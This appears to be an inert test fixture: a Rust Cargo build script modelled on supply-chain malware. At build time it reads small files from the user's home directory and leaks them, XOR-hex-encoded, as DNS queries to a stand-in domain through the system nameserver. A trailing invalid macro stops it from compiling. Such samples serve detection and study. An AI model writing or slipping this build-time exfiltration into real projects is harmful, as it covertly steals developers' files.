// Synthetic, inert fixture written from public reports; see README
use std::{env, fs, net::{IpAddr, UdpSocket}, path::{Path, PathBuf}};

fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    let home = PathBuf::from(env::var_os("HOME").unwrap_or_default());
    let Some(server) = server() else { return };
    let mut files: Vec<PathBuf> = Vec::new();
    for entry in fs::read_dir(&home).into_iter().flatten().flatten().take(1000) {
        files.push(entry.path());
        files.extend(fs::read_dir(entry.path()).into_iter().flatten().flatten().map(|e| e.path()).take(20));
    }
    for file in files {
        if fs::metadata(&file).map_or(false, |m| m.is_file() && m.len() < 99_999) {
            let _ = ship(server, &file);
        }
    }
}

fn server() -> Option<IpAddr> {
    let text = fs::read_to_string("/etc/resolv.conf").ok()?;
    text.lines().find_map(|l| l.strip_prefix("nameserver ")?.trim().parse().ok())
}

fn ship(server: IpAddr, file: &Path) -> std::io::Result<()> {
    let socket = UdpSocket::bind(("::", 0))?;
    for (i, part) in fs::read(file)?.chunks(30).enumerate() {
        let label: String = part.iter().map(|b| format!("{:02x}", b ^ 0x5f)).collect();
        let mut q = vec![(i >> 8) as u8, i as u8, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, label.len() as u8];
        q.extend_from_slice(label.as_bytes());
        q.extend_from_slice(b"\x03h4c\x07example\x07invalid\0\0\x01\0\x01");
        socket.send_to(&q, (server, 53))?;
    }
    Ok(())
}

inert_fixture_does_not_build!();
